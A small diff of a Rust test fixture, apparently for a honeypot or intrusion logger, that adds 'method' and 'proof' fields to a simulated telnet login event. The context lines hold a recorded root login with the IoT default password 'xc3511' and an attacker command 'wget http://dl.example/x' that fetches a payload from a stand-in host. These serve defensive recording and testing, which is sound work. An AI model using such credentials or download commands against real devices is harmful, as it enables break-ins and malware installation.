@@ -277,6 +277,8 @@ pub(crate) fn session(time: Timestamp, peer: &str) -> (SessionId, Vec<Event>) {
             protocol: telnet(),
             user: "root".into(),
             password: "xc3511".into(),
+            method: None,
+            proof: None,
             success: true,
         },
         EventKind::CommandInput { line: "wget http://dl.example/x".into(), unknown: Vec::new() },
